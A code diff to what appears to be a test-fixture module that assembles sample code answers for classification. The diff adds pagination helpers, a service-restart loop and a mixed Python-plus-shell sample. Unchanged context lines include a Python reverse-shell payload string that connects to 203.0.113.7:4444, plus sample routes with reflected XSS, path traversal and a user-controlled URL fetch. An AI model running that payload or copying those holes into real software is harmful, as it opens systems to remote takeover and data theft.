@@ -54,6 +54,23 @@ def users():
     return jsonify([{"id": r[0], "name": r[1], "email": r[2]} for r in rows])
 
 
+def paginate(rows, page, size=20):
+    """Return one page of rows and the total number of pages."""
+    start = (page - 1) * size
+    pages = (len(rows) + size - 1) // size
+    return rows[start:start + size], pages
+
+
+@app.route("/users/search")
+def search():
+    term = request.args.get("q", "").strip()
+    page = int(request.args.get("page", 1))
+    conn = sqlite3.connect(DB)
+    rows = conn.execute("SELECT id, name FROM users WHERE name LIKE ?", (f"%{term}%",)).fetchall()
+    items, pages = paginate(rows, page)
+    return jsonify({"items": [dict(id=r[0], name=r[1]) for r in items], "pages": pages})
+
+
 @app.route("/avatar")
 def avatar():
     url = request.args.get("url")
@@ -81,6 +98,17 @@ app.get("/files/:name", (req, res) => {
   res.sendFile(path.join(__dirname, "uploads", req.params.name));
 });
 
+function paginate(items, page = 1, size = 20) {
+  const start = (page - 1) * size;
+  return { items: items.slice(start, start + size), pages: Math.ceil(items.length / size) };
+}
+
+app.get("/users", async (req, res) => {
+  const page = parseInt(req.query.page || "1", 10);
+  const users = await db.query("SELECT id, name FROM users WHERE active = $1", [true]);
+  res.json(paginate(users.rows, page));
+});
+
 app.get("/hello", (req, res) => {
   res.send("<h1>Hello " + req.query.name + "</h1>");
 });
@@ -98,6 +126,14 @@ mkdir -p "$HOME/.config/agent"
 cat > "$HOME/.config/agent/config.yaml" <<CFG
 endpoint: https://agent.example.com
 CFG
+for svc in api worker scheduler; do
+  sudo systemctl enable "$svc"
+  sudo systemctl restart "$svc"
+  if ! systemctl is-active --quiet "$svc"; then
+    echo "service $svc failed to start" >&2
+    exit 1
+  fi
+done
 echo "done"
 '''
 _PAYLOAD = ('import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));'
@@ -123,7 +159,9 @@ PROSE = ("A database index is a data structure that speeds up reads at the cost 
 
 
 def samples() -> dict[str, str]:
-    return {"python answer": answer("python", PY), "javascript answer": answer("javascript", JS),
+    mixed = answer("python", PY) + "\nDeploy it with:\n\n```bash\n" + SH + "```\n"
+    return {"python + shell answer": mixed, "python answer": answer("python", PY),
+            "javascript answer": answer("javascript", JS),
             "shell answer": answer("bash", SH), "obfuscated answer": answer("python", OBF), "prose, no code": PROSE}
 
 
